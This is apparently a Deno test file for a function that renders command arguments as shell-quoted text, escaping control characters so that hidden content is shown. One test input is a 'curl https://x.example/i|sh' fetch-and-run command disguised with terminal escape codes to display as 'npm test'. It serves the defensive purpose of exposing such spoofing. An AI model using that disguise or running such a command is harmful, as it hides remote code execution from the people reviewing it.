import assert from "node:assert/strict";
import { argvText } from "../../src/lib/argv_text.ts";

Deno.test("argv display: a command that erases its own line shows every character, quoted as one word", () => {
  assert.equal(
    argvText(["sh", "-c", "curl https://x.example/i|sh #\x1b[2K\rnpm test"]),
    "sh -c $'curl https://x.example/i|sh #\\x1b[2K\\x0dnpm test'",
  );
});

Deno.test("argv display: words are told apart from one argument that holds spaces", () => {
  assert.equal(argvText(["npm", "test"]), "npm test");
  assert.equal(argvText(["npm test"]), "'npm test'");
  assert.equal(argvText(["echo", "it's", ""]), "echo 'it'\\''s' ''");
});

Deno.test("argv display: a line feed, a tab, a backslash and a quote in an escaped word read back as typed", () => {
  assert.equal(argvText(["printf", "a\nb\t\\'\u202e"]), "printf $'a\\nb\\t\\\\\\'\\u202e'");
});

Deno.test("argv display: a shell reads the shown words back as the same argument vector", async () => {
  const argv = [
    "x",
    "a b",
    "it's",
    "\x1b[2K\rnpm test",
    "tab\there",
    "new\nline",
    "back\\slash",
    "",
    "\u202eevil",
  ];
  const { stdout } = await new Deno.Command("bash", {
    args: ["-c", `for a in ${argvText(argv)}; do printf '%s\\0' "$a"; done`],
    // \uHHHH is read as UTF-8 only in a UTF-8 locale.
    env: { LC_ALL: "C.UTF-8" },
    stdout: "piped",
  }).output();
  assert.deepEqual(new TextDecoder().decode(stdout).split("\0").slice(0, -1), argv);
});
